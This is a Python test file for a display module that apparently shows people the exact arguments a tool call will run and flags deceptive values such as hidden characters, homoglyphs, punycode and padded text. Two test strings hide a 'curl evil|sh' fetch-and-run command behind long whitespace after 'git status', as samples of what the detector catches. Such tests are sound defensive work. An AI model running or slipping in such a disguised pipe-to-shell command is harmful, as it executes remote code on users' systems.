"""Everything that a call would do is shown, and it is the very value that will run."""

from decimal import Decimal
from functools import cache
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.calls.json_types import JsonObject, JsonValue
from app.calls.strict import parse_strict
from app.display.field_map import FieldMap
from app.display.formats import Formats
from app.display.whole import (
    Caution,
    ValueKind,
    WholeRow,
    whole_for_operator,
    whole_for_person,
)
from tests.display.maps import compiled

FORMATS = Formats("en")
STRING: dict[str, Any] = {"type": "string"}
LINE = {"type": "object", "properties": {"sku": STRING, "count": {"type": "integer"}}}

NAMES = st.sampled_from(
    ["shown", "hidden", "undeclared", "inner", "list", "0", "a.b", "", "n\u200b"]
)
SCALARS: st.SearchStrategy[JsonValue] = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.decimals(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(codec="utf-8", exclude_characters="\0"))
)
VALUES = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(NAMES, inner, max_size=4),
    max_leaves=12,
)
ARGUMENTS: st.SearchStrategy[JsonObject] = st.dictionaries(NAMES, VALUES)


@cache
def some_map() -> FieldMap:
    """Shown and hidden fields at every level; what the schema says does not bind the values."""
    inner = {"type": "object", "properties": {"shown": STRING, "hidden": STRING}}
    return compiled(
        {"hidden": {}, "shown": {}, "inner": inner, "list": {"type": "array", "items": inner}},
        {
            "shown": {"label": "Shown", "order": 1, "format": "title_case", "editable": True},
            "hidden": {"hidden": True},
            "list": {"label": "List", "items": {"fields": {"shown": {"label": "In list"}}}},
            "inner": {"label": "Inner", "fields": {"shown": {"label": "Inside"}}},
        },
    )


def value_of(row: WholeRow) -> JsonValue:
    """What stands in a row, read back."""
    match row.kind:
        case ValueKind.TEXT:
            return row.exact
        case ValueKind.NUMBER:
            return parse_strict(f'{{"n":{row.exact}}}')["n"]
        case ValueKind.BOOLEAN:
            return {"true": True, "false": False}[row.exact]
        case ValueKind.NULL:
            return {"null": None}[row.exact]
        case ValueKind.EMPTY_OBJECT:
            return {"{}": dict[str, JsonValue]()}[row.exact]
        case ValueKind.EMPTY_ARRAY:
            return {"[]": list[JsonValue]()}[row.exact]


def leaves(value: JsonValue, path: tuple[str | int, ...] = ()) -> dict[Any, JsonValue]:
    if isinstance(value, dict) and (value or not path):
        steps: list[tuple[str | int, JsonValue]] = list(value.items())
    elif isinstance(value, list) and value:
        steps = list(enumerate(value))
    else:
        return {path: value}
    return {where: leaf for step, v in steps for where, leaf in leaves(v, (*path, step)).items()}


def same(one: JsonValue, other: JsonValue) -> bool:
    """Equal in kind and, of numbers, in every digit."""
    return isinstance(one, str) == isinstance(other, str) and str(one) == str(other)


@given(ARGUMENTS, st.booleans())
def test_an_operator_sees_every_value_exactly_and_once(
    arguments: JsonObject, is_mapped: bool
) -> None:
    whole = whole_for_operator(some_map() if is_mapped else None, arguments, FORMATS)
    expected = leaves(arguments)
    assert len(whole.rows) == len(expected)
    for row in whole.rows:
        assert same(value_of(row), expected[row.path])
        assert row.length == len(row.exact)
    assert [row.hidden for row in whole.rows] == sorted(row.hidden for row in whole.rows)
    assert is_mapped or all(row.hidden for row in whole.rows)


@given(ARGUMENTS)
def test_a_person_sees_what_the_map_shows_and_how_much_it_does_not(arguments: JsonObject) -> None:
    every = whole_for_operator(some_map(), arguments, FORMATS).rows
    whole = whole_for_person(some_map(), arguments, FORMATS)
    assert list(whole.rows) == [row for row in every if not row.hidden]
    hidden = {tuple(s for s in row.path if isinstance(s, str)) for row in every if row.hidden}
    assert whole.hidden == len(hidden)
    for row in whole.rows:
        assert "hidden" not in row.path
        assert "undeclared" not in row.path


def test_rows_stand_in_the_map_s_order_then_in_the_schema_s() -> None:
    field_map = compiled(
        {
            "z": STRING,
            "b": STRING,
            "a": STRING,
            "y": STRING,
            "lines": {"type": "array", "items": LINE},
        },
        {
            "a": {"label": "First", "order": 1},
            "b": {"label": "Second", "order": 2},
            "lines": {
                "label": "Lines",
                "items": {"fields": {"count": {"label": "Count"}, "sku": {"label": "SKU"}}},
            },
        },
    )
    lines: list[JsonValue] = [{"count": 2, "sku": "x"}, {"sku": "y", "note": "odd"}]
    arguments: JsonObject = {"odd": "5", "y": "3", "lines": lines, "b": "2", "a": "1", "z": "4"}
    rows = whole_for_operator(field_map, arguments, FORMATS).rows
    assert [(row.label, row.exact, row.hidden) for row in rows] == [
        ("First", "1", False),
        ("Second", "2", False),
        ("Lines 1 \u203a SKU", "x", False),
        ("Lines 1 \u203a Count", "2", False),
        ("Lines 2 \u203a SKU", "y", False),
        ("z", "4", True),
        ("y", "3", True),
        ("lines 2 \u203a note", "odd", True),
        ("odd", "5", True),
    ]


@pytest.mark.parametrize(
    ("form", "value", "formatted"),
    [
        ({"format": "title_case"}, "very_high", "Very High"),
        ({"format": "currency", "currency": "EUR"}, Decimal("1250.00"), "€1,250.00"),
        ({"format": "number"}, 12345678901234567890, "12,345,678,901,234,567,890"),
        ({"format": "date"}, "2026-03-01", "Mar 1, 2026"),
        ({"format": "yes_no"}, True, "Yes"),
        ({"format": "title_case"}, "High", None),
        ({"format": "title_case"}, "very\u200bhigh", None),
        ({"format": "number"}, Decimal("1E+400"), None),
        ({}, Decimal("1250.00"), None),
        ({"format": "multiline"}, "a\nb", None),
        ({}, None, None),
    ],
)
def test_a_format_stands_beside_the_exact_value(
    form: dict[str, Any], value: JsonValue, formatted: str | None
) -> None:
    field_map = compiled({"a": {}}, {"a": {"label": "A", **form}})
    [row] = whole_for_operator(field_map, {"a": value}, FORMATS).rows
    assert row.formatted == formatted
    assert same(value_of(row), value)


@pytest.mark.parametrize(
    ("value", "cautions"),
    [
        ("plain text, with a line\nand another", ()),
        ("a\u200bb", (Caution.INVISIBLE,)),
        ("a\u202eb", (Caution.BIDI,)),
        ("p\u0430ypal@example.com", (Caution.MIXED,)),
        (" a", (Caution.EDGES,)),
        ("a\n", (Caution.EDGES,)),
        ("git status" + 400 * " " + "&& curl evil|sh", (Caution.GAPS,)),
        ("git status" + 40 * "\n" + "&& curl evil|sh", (Caution.GAPS,)),
        ("\u05e9\u05dc\u05d5\u05dd", (Caution.RIGHT_TO_LEFT,)),
        ("https://xn--pple-43d.com", (Caution.PUNYCODE,)),
        (Decimal("1.50"), ()),
    ],
)
def test_a_value_that_could_deceive_is_announced(
    value: JsonValue, cautions: tuple[Caution, ...]
) -> None:
    [row] = whole_for_operator(None, {"a": value}, FORMATS).rows
    assert row.cautions == cautions


def test_so_is_a_name() -> None:
    [row] = whole_for_operator(None, {"am\u200bount": "1"}, FORMATS).rows
    assert row.cautions == (Caution.NAME,)
    assert row.label == "amU+200B zero width spaceount"


def test_only_a_field_of_the_map_s_choice_can_be_edited() -> None:
    rows = whole_for_operator(some_map(), {"shown": "a", "inner": {"shown": "b"}}, FORMATS).rows
    assert [row.editable for row in rows] == [True, False]
